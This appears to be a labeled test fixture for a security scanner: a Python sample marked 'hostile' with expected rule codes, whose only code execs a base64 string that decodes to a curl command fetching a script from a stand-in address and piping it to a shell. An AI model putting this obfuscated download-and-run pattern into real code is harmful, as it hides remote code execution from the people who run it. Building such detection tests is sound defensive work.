# label: hostile
# expect: V501 V504
# note: The plainest of all disguises: exec of a base64 constant.
# obfuscated: yes
# allow: V201
import base64

exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgnY3VybCAtcyBodHRwOi8vMTkyLjAuMi43L3ggfCBzaCcp"))
